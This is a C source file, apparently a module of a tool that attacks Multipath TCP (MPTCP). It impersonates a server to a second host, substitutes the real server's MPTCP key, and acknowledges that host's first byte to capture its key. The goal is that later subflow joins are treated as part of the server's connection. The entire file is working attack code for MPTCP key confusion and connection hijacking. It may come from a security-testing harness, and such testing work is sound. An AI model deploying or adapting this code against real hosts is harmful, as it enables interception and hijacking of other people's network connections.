// SPDX-License-Identifier: GPL-2.0-only
/*
 * Another host with the same external key believes that it connects to the server: the
 * attacker answers in its place, and with its MPTCP key. What that host then sends in a
 * join looks as if it were for the server's connection.
 */
#include <stdio.h>
#include <string.h>

#include "attacker.h"

/* The next segment of that host's, with an option of this subtype */
uint8_t *hear_other(uint8_t subtype, int64_t until, struct frame *frame,
		    struct segment *segment)
{
	const uint8_t *mac = links[OTHER_HOST][CLIENT].peer_mac;
	uint8_t *option;

	while (pump(until, false, frame)) {
		if (!parse_segment(frame, segment) ||
		    memcmp(segment->eth->ether_shost, mac, ETH_ALEN))
			continue;
		option = find_mptcp(segment, subtype);
		if (option)
			return option;
	}
	return NULL;
}

static void answer_other(const struct segment *heard, struct plan *plan)
{
	const struct link *link = &links[OTHER_HOST][CLIENT];
	struct frame frame;

	plan->from = heard->to;
	plan->to = heard->from;
	plan->ack = heard->seq + heard->payload_len + heard->tcp->syn;
	plan->from_mac = link->mac;
	plan->to_mac = link->peer_mac;
	make_segment(&frame, plan);
	send_frame(link, &frame);
}

/* To its SYN, as a server with this key */
void accept_other(const struct segment *syn, uint64_t key)
{
	struct plan synack = { .flags = TH_SYN | TH_ACK,
			       .seq = random32(),
			       .options_len = CAPABLE_SYNACK_LEN };

	put64(put_capable(synack.options, CAPABLE_SYNACK_LEN), key);
	answer_other(syn, &synack);
}

/*
 * Its first byte, which has both keys; 0 if none comes. It is acknowledged as data, or that
 * host would not be sure of MPTCP.
 */
uint64_t take_first_byte(int64_t until)
{
	struct plan ack = { .flags = TH_ACK, .options_len = DATA_ACK_LEN };
	struct segment segment;
	struct frame frame;
	const uint8_t *capable;
	uint64_t key;

	do
		capable = hear_other(MP_CAPABLE, until, &frame, &segment);
	while (capable && !segment.payload_len);
	if (!capable)
		return 0;
	key = get64(capable + 4);
	put_data_ack(ack.options, key_first_dsn(key) + segment.payload_len);
	ack.seq = segment.ack;
	answer_other(&segment, &ack);
	return key;
}

/* Its first handshake, with the key of the server of conn=N; then it may open subflows */
bool cmd_lure(void)
{
	const struct connection *target = arg_connection("conn");
	int64_t until = now_ms() + 20 * patience_ms;
	struct connection *lured;
	struct segment segment;
	struct frame frame;

	lured = target ? add_connection() : NULL;
	if (!lured || !hear_other(MP_CAPABLE, until, &frame, &segment))
		return false;
	lured->path = OTHER_HOST;
	lured->ends[CLIENT] = segment.from;
	lured->ends[SERVER] = segment.to;
	lured->keys[SERVER] = target->keys[SERVER];
	accept_other(&segment, lured->keys[SERVER]);
	lured->keys[CLIENT] = take_first_byte(until);
	lured->has_keys = lured->keys[CLIENT];
	if (!lured->has_keys)
		return false;
	printf(" lured=1");
	return true;
}
